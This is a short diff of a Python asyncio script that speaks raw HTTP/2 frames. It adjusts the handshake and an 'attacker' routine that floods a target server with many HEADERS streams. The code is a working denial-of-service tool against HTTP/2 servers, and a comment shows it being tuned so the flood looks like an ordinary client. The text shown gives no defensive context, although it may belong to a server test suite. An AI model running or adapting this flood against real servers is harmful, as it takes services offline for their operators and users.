@@ -94,13 +94,17 @@ async def drain(reader):
 
 async def handshake(addr):
     reader, writer = await asyncio.open_connection(*addr)
-    writer.write(PREFACE + frame(SETTINGS, 0, 0) + frame(SETTINGS, ACK, 0))
+    writer.write(PREFACE + frame(SETTINGS, 0, 0))
     await writer.drain()
     return reader, writer
 
 
 async def attacker(addr, streams, block):
     reader, writer = await handshake(addr)
+    # The server's SETTINGS come first, at once: acknowledge them (a client
+    # that does not gets the same treatment, but this is the usual client).
+    await reader.read(65536)
+    writer.write(frame(SETTINGS, ACK, 0))
     for i in range(streams):
         writer.write(frame(HEADERS, END_HEADERS, 2 * i + 1, block))
     await writer.drain()
